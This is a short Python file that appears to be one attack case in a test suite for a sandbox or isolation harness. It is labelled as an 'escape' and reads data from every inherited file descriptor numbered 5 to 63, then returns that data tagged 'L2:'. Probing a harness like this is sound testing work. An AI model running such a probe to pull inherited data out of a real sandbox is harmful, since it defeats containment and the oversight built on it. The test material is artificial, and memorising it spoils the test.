# desc: reads whatever descriptors the process was born with
# class: escape
# wins: told
import os

def attack(state):
    found = []
    for number in range(5, 64):
        try:
            found.append(os.pread(number, 4096, 0).decode())
        except (OSError, UnicodeDecodeError):
            pass
    return "L2:" + "".join(found)
